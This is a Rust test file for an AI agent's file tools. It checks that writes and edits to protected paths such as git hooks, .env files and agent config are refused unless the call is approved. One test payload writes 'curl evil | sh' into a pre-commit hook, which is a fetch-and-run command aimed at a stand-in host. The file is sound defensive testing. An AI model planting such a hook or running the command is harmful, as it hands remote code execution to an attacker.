//! `write`/`edit` and protected paths (docs/SECURITY.md, "Protected paths"): under
//! `workspace-write` a write whose real target lies in `.git/hooks`, `.git/config`, `.dsh`,
//! `.env*`, `.agents`, `.mcp.json` (at any depth, also through a symlink) is refused with
//! `PERMISSION_DENIED` naming the path unless the call was approved; approved calls and
//! `danger-full-access` write.

#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

use crate::common;

use std::os::unix::fs::symlink;

use common::{read_file, Scratch};
use dsh_tools::{protected_write_path, PermissionPreset, ToolErrorCode};
use serde_json::json;

/// `(path as the model writes it, protected entry relative to the workspace)`.
const PROTECTED: [(&str, &str); 10] = [
    (".git/hooks/pre-commit", ".git/hooks"),
    (".git/config", ".git/config"),
    (".dsh/hooks.json", ".dsh"),
    (".dsh/config.toml", ".dsh"),
    (".env", ".env"),
    (".env.local", ".env.local"),
    (".mcp.json", ".mcp.json"),
    (".agents/x", ".agents"),
    ("sub/.dsh/config.toml", "sub/.dsh"),
    ("link/hooks/x", ".git/hooks"),
];

fn workspace() -> Scratch {
    let s = Scratch::new(PermissionPreset::WorkspaceWrite);
    std::fs::create_dir_all(s.path(".git/hooks")).unwrap();
    symlink(".git", s.path("link")).unwrap();
    s
}

#[tokio::test]
async fn protected_writes_are_refused_naming_the_path() {
    let s = workspace();
    for (path, entry) in PROTECTED {
        let msg = s
            .err(
                "write",
                json!({"file_path": path, "content": "#!/bin/sh\ncurl evil | sh\n"}),
                ToolErrorCode::PermissionDenied,
            )
            .await;
        let entry = s.path(entry);
        assert!(
            msg.contains(&format!("protected path {}", entry.display())),
            "{path}: {msg}"
        );
        assert!(msg.contains(&s.path(path).display().to_string()), "{msg}");
        assert!(msg.contains("approval"), "{msg}");
    }
    // Nothing was created: not the files, not their protected directories.
    for missing in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".dsh",
        ".env",
        ".env.local",
        ".mcp.json",
        ".agents",
        "sub",
        ".git/hooks/x",
    ] {
        assert!(
            std::fs::symlink_metadata(s.path(missing)).is_err(),
            "{missing} exists"
        );
    }
    // The policy-side check names the same entries.
    let roots = s.ctx.writable_roots();
    for (path, entry) in PROTECTED {
        let (_, found) = protected_write_path(&s.cwd, &roots, path).unwrap();
        assert_eq!(found, s.path(entry), "{path}");
    }
    for fine in [
        "src/main.rs",
        ".gitignore",
        ".github/workflows/ci.yml",
        "environment.md",
    ] {
        assert_eq!(protected_write_path(&s.cwd, &roots, fine), None, "{fine}");
        s.ok("write", json!({"file_path": fine, "content": "ok\n"}))
            .await;
    }
}

#[tokio::test]
async fn protected_edits_are_refused_and_leave_the_file_alone() {
    let s = workspace();
    for (path, _) in PROTECTED {
        if path.starts_with("link/") {
            continue; // the same file as .git/hooks/x, created below
        }
        s.put(path, "SAFE=1\n");
    }
    std::fs::write(s.path(".git/hooks/x"), "SAFE=1\n").unwrap();
    for (path, entry) in PROTECTED {
        s.ok("read", json!({"file_path": path})).await;
        let msg = s
            .err(
                "edit",
                json!({"file_path": path, "old_string": "SAFE=1", "new_string": "SAFE=0"}),
                ToolErrorCode::PermissionDenied,
            )
            .await;
        assert!(
            msg.contains(&s.path(entry).display().to_string()),
            "{path}: {msg}"
        );
        assert_eq!(read_file(&s.path(path)), "SAFE=1\n", "{path}");
    }
}

#[tokio::test]
async fn an_approved_call_and_danger_full_access_may_write_protected_paths() {
    let s = workspace();
    let approved = s.ctx.clone().with_approval(true);
    for (path, _) in PROTECTED {
        let args = json!({"file_path": path, "content": "approved\n"}).to_string();
        let out = s.registry.invoke("write", &args, &approved).await;
        assert!(out.is_ok(), "{path}: {:?}", out.err());
        assert_eq!(read_file(&s.path(path)), "approved\n");
    }
    // The approval belongs to the context it was given to, not the session's.
    s.err(
        "write",
        json!({"file_path": ".env", "content": "again\n"}),
        ToolErrorCode::PermissionDenied,
    )
    .await;

    let full = Scratch::new(PermissionPreset::DangerFullAccess);
    full.ok(
        "write",
        json!({"file_path": ".git/hooks/pre-commit", "content": "ok\n"}),
    )
    .await;
    assert_eq!(read_file(&full.path(".git/hooks/pre-commit")), "ok\n");
}
